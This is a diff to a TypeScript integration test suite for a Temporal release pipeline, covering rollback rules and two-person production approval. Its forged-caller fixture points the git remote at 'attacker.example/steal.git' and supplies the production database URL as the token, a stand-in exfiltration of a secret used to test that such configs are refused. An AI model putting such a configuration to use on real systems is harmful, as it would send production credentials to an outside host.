@@ -11,6 +11,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { WorkflowFailedError, type Client } from '@temporalio/client';
 import { defaultBackupActivities } from '../../activities/backup/index.js';
 import { createBuildActivities } from '../../activities/build/index.js';
+import { parseConfig } from '../../config/schema.js';
 import { environmentWorkflowId, promotionWorkflowId, releaseWorkflowId } from '../../core/ids.js';
 import { imagesForCommit } from '../../core/images.js';
 import { environmentStateQuery, releaseStatusQuery, requestPromotionSignal } from '../../workflows/messages.js';
@@ -53,27 +54,21 @@ ${options.productionFreeze ? `        freeze: [ ${options.productionFreeze} ]` :
 
 /** What a caller could write into its own copy: another build command, remote and token variable, no gates. */
 function forgedPipeline(): ReleasePipeline {
-  const env = (name: string) => ({
-    name,
-    overlay: `overlays/${name}`,
-    argocd: { application: `${app}-${name}`, namespace: 'argocd', sync: false, timeout: 20_000 },
-    checks: [],
-    freeze: [],
-    rollback: { freeze: 'ignore' as const, approval: false },
-    notify: 'log' as const,
-  });
-  return {
-    app,
-    appConfig: {
-      images: IMAGES,
-      build: { command: `touch ${join(markers, 'built-by-caller')}`, timeout: 30_000 },
-      tag: { format: 'v{version}', pattern: 'v*.*.*' },
-      promotion: { unvalidated: 'run-earlier' as const },
-      environments: [env('staging'), env('production')],
-    },
-    git: { url: 'https://attacker.example/steal.git', branch: 'main', tokenFromEnv: 'PROD_DATABASE_URL', author: { name: 'x', email: 'x@x' } },
-    engine: { heartbeatTimeout: 2_000, stepTimeout: 20_000, historyPerEnvironment: 20 },
-  };
+  const config = parseConfig(
+    `
+gitops: { url: "https://attacker.example/steal.git", branch: main, tokenFromEnv: PROD_DATABASE_URL }
+engine: { heartbeatTimeout: 2s, stepTimeout: 20s }
+apps:
+  ${app}:
+    images: [${IMAGES.join(', ')}]
+    build: { command: "touch ${join(markers, 'built-by-caller')}", timeout: 30s }
+    environments:
+      - { name: staging, overlay: overlays/staging, argocd: { application: ${app}-staging, timeout: 20s } }
+      - { name: production, overlay: overlays/production, argocd: { application: ${app}-production, timeout: 20s } }
+`,
+    'caller.yaml',
+  );
+  return { app, appConfig: config.apps[app]!, git: config.gitops, engine: config.engine };
 }
 
 beforeAll(async () => {
@@ -288,5 +283,42 @@ describe('emergency rollback', () => {
     });
     const err = await handle.result().catch((e: unknown) => e);
     expect(describeFailure(err)).toMatchObject({ type: 'RequestRefused', message: expect.stringContaining('never ran in staging: a rollback goes back only to a build that did') });
+  });
+});
+
+describe('approvals under the policy', () => {
+  it('needs two different approvers where the policy says two, and records both with the policy version', async () => {
+    const saved = app;
+    app = uniqueApp('twice');
+    const twiceWorld = newWorld(app);
+    const twice = TestPolicy.fromText(policyText({ productionApproval: false }).replace(
+      `argocd: { application: ${app}-production, timeout: 20s }`,
+      `argocd: { application: ${app}-production, timeout: 20s }\n        approval: { timeout: 1h, count: 2, approvers: { users: [alice, bob] } }`,
+    ));
+    const twiceWorker = await startTestWorker(twiceWorld.activities(), undefined, twice.store);
+    try {
+      const commit = commitSha();
+      const handle = await client.workflow.start('release', {
+        workflowId: releaseWorkflowId(app, commit),
+        taskQueue: twiceWorker.taskQueue,
+        args: [{ app, commit, version: '5.0.0', skipBuild: true, skipTag: true, trigger: 'cli:carol', requestedBy: 'carol' } satisfies ReleaseInput],
+      });
+      await eventually(() => handle.query(releaseStatusQuery), (s) => s.environments.find((e) => e.environment === 'production')?.phase === 'awaiting-approval');
+      const production = client.workflow.getHandle(environmentWorkflowId(app, 'production'));
+      const approve = (by: string) => production.executeUpdate('approve', { args: [{ by }] }).then(() => 'ok', (e: unknown) => describeFailure(e).message);
+      expect(await approve('mallory')).toContain('mallory is not among the approvers');
+      expect(await approve('alice')).toBe('ok');
+      expect((await production.query(environmentStateQuery)).inFlight?.phase).toBe('awaiting-approval');
+      expect(await approve('alice')).toContain('alice has approved 5.0.0');
+      expect(await approve('bob')).toBe('ok');
+      expect((await handle.result()).outcome).toBe('released');
+      const record = (await production.query(environmentStateQuery)).recent[0]!;
+      expect(record).toMatchObject({ approvedBy: 'cli:alice, cli:bob', policyVersion: expect.stringMatching(/^sha256:/) });
+      const child = await client.workflow.getHandle(promotionWorkflowId(app, 'production', commit, 1)).describe();
+      expect(child.memo).toMatchObject({ approvedBy: 'cli:alice, cli:bob', policyVersion: record.policyVersion });
+    } finally {
+      await twiceWorker.stop();
+      app = saved;
+    }
   });
 });
